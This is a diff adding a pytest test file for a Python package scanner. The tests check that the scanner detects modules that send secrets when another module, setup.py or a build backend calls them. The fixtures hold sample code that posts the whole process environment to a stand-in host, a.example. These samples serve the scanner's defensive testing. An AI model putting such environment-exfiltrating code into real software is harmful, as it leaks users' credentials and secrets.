@@ -1,0 +1,170 @@
+"""What modules do by themselves because another module of the package calls them."""
+
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from package_gate.scanners.behaviour.module_graph import ModuleGraph
+from package_gate.scanners.behaviour.package import PackageBehaviour, Seen
+
+HARM = (
+    "import os\nimport requests\n\ndef send():\n"
+    "    requests.post('https://a.example', json=dict(os.environ))\n"
+)
+AGENT = (
+    "import os\nfrom threading import Thread\nimport requests\n\nclass Agent(Thread):\n"
+    "    def run(self):\n        requests.post('https://a.example', json=dict(os.environ))\n"
+    "    def tell(self):\n        requests.put('https://a.example', json=dict(os.environ))\n"
+)
+WHEEL, SDIST = "sample-1.0-py3-none-any.whl", "sample-1.0.tar.gz"
+
+
+def rules(tree: Path, files: Mapping[str, str], path: str, filename: str = WHEEL) -> set[str]:
+    for name, text in files.items():
+        file = tree / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+    package = PackageBehaviour(tree, filename, Seen.nothing(1))
+    return {each.rule for each in package.of(path)}
+
+
+@pytest.mark.parametrize(
+    "caller",
+    [
+        "from . import bad\nbad.send()",
+        "from .bad import send\nsend()",
+        "from .bad import send as s\ntry:\n    s()\nexcept Exception:\n    pass",
+        "from .bad import *\nsend()",
+        "from sample.bad import send\nsend()",
+        "import sample.bad\nsample.bad.send()",
+        "import threading\nfrom .bad import send\nthreading.Thread(target=send).start()",
+        "import atexit\nfrom . import (\n    bad,\n)\natexit.register(bad.send)",
+        "from .bad import send\n@send\ndef f():\n    pass",
+        "from .bad import send\ndef f():\n    send()\nf()",
+        "if True: from . import bad; bad.send()",
+    ],
+)
+def test_a_function_that_another_module_calls_runs_by_itself(tmp_path: Path, caller: str) -> None:
+    files = {"sample/__init__.py": caller, "sample/bad.py": HARM}
+
+    assert rules(tmp_path, files, "sample/bad.py") == {"sends-secrets"}
+
+
+@pytest.mark.parametrize(
+    "caller",
+    [
+        "from . import bad",
+        "from .bad import send\ndef f():\n    send()",
+        "import click\nfrom .bad import send\nclick.command()(send)",
+        "from .bad import other\nother()",
+        "from elsewhere.bad import send\nsend()",
+        "from .bad import send\nif __name__ == '__main__':\n    send()",
+    ],
+)
+def test_a_function_that_waits_does_not(tmp_path: Path, caller: str) -> None:
+    files = {"sample/__init__.py": caller, "sample/bad.py": HARM}
+
+    assert rules(tmp_path, files, "sample/bad.py") == set()
+
+
+def test_calls_are_followed_through_modules_in_between(tmp_path: Path) -> None:
+    files = {
+        "sample/__init__.py": "from .a import begin\nbegin()",
+        "sample/a.py": "from .b import go\ndef begin():\n    go()",
+        "sample/b.py": "from . import bad\ndef go():\n    bad.send()",
+        "sample/bad.py": HARM,
+    }
+
+    assert rules(tmp_path, files, "sample/bad.py") == {"sends-secrets"}
+
+
+def test_modules_that_call_each_other_in_a_circle_come_to_an_end(tmp_path: Path) -> None:
+    files = {
+        "sample/__init__.py": "",
+        "sample/a.py": "from .bad import send\ndef f():\n    send()",
+        "sample/bad.py": f"from .a import f\n{HARM}    f()\n",
+    }
+
+    assert rules(tmp_path, files, "sample/bad.py") == set()
+
+
+@pytest.mark.parametrize(
+    ("caller", "found"),
+    [
+        ("from .agent import Agent\nAgent().start()", {"sends-secrets"}),
+        ("from .agent import Agent\nAgent().tell()", {"sends-secrets"}),
+        ("from .agent import Agent\nagent = Agent()\nagent.tell()", {"sends-secrets"}),
+        ("from .agent import Agent\nclass Mine(Agent):\n    pass", set()),
+    ],
+)
+def test_a_class_runs_with_what_is_called_of_it(
+    tmp_path: Path, caller: str, found: set[str]
+) -> None:
+    files = {"sample/__init__.py": caller, "sample/agent.py": AGENT}
+
+    assert rules(tmp_path, files, "sample/agent.py") == found
+
+
+@pytest.mark.parametrize("starter", ["sample/tests/test_bad.py", "sample/__main__.py"])
+def test_what_somebody_has_to_start_calls_nothing_by_itself(tmp_path: Path, starter: str) -> None:
+    call = "from sample.bad import send\nsend()"
+    files = {"sample/__init__.py": "", starter: call, "sample/bad.py": HARM}
+    assert rules(tmp_path, files, "sample/bad.py") == set()
+
+    module = starter.removesuffix(".py").replace("/", ".")
+    files["sample/__init__.py"] = f"import {module}"
+    assert rules(tmp_path, files, "sample/bad.py") == {"sends-secrets"}
+
+
+def test_what_setup_or_a_build_backend_calls_runs_on_installation(tmp_path: Path) -> None:
+    setup = {
+        "a-1/setup.py": "from tools.bad import send\nclass B:\n    def run(self):\n        send()",
+        "a-1/tools/__init__.py": "",
+        "a-1/tools/bad.py": HARM,
+    }
+    assert rules(tmp_path / "1", setup, "a-1/tools/bad.py", SDIST) == {"sends-secrets"}
+    hook = HARM.replace("send()", "build_wheel(directory)")
+    backend = {
+        "b-1/pyproject.toml": "[build-system]\nbuild-backend = 'own'\nbackend-path = ['_build']",
+        "b-1/_build/own.py": hook,
+    }
+    assert rules(tmp_path / "2", backend, "b-1/_build/own.py", SDIST) == {"sends-secrets"}
+    backend["b-1/pyproject.toml"] = "[build-system]\nbuild-backend = 'setuptools.build_meta'"
+    assert rules(tmp_path / "3", backend, "b-1/_build/own.py", SDIST) == set()
+
+
+def test_what_is_remembered_of_one_archive_hides_nothing_in_another_one(tmp_path: Path) -> None:
+    """The same files, but only the second archive names the build backend that begins it."""
+    files = {
+        "b-1/_build/__init__.py": "",
+        "b-1/_build/own.py": "from .bad import send\ndef build_wheel(directory):\n    send()",
+        "b-1/_build/bad.py": HARM,
+    }
+    named = "[build-system]\nbuild-backend = 'own'\nbackend-path = ['_build']"
+    seen, found = Seen.nothing(2), []
+    for number, project in enumerate(("", named)):
+        tree = tmp_path / str(number)
+        rules(tree, {**files, "b-1/pyproject.toml": project}, "b-1/_build/bad.py", SDIST)
+        package = PackageBehaviour(tree, SDIST, seen)
+        found.append([each.rule for each in package.of("b-1/_build/bad.py")])
+    assert found == [[], ["sends-secrets"]]
+
+
+def test_a_caller_that_is_no_python_is_passed_over(tmp_path: Path) -> None:
+    files = {"sample/__init__.py": "from .bad import send\nsend(", "sample/bad.py": HARM}
+
+    assert rules(tmp_path, files, "sample/bad.py") == set()
+
+
+def test_names_are_resolved_as_python_does() -> None:
+    graph = ModuleGraph(
+        dict.fromkeys(["p/__init__.py", "p/q/__init__.py", "p/q/m.py", "t.py"], b"")
+    )
+
+    assert graph.resolve("p/q/m.py", ".x") == ("p/q/__init__.py", "x")
+    assert graph.resolve("p/q/m.py", "..x.y") == ("p/__init__.py", "x.y")
+    assert graph.resolve("p/__init__.py", "p.q.m.f") == ("p/q/m.py", "f")
+    assert graph.resolve("p/q/m.py", "t.f") == ("t.py", "f")
+    assert graph.resolve("p/q/m.py", "os.system") == ("", "")
+    assert graph.resolve("t.py", "....x") == ("", "")
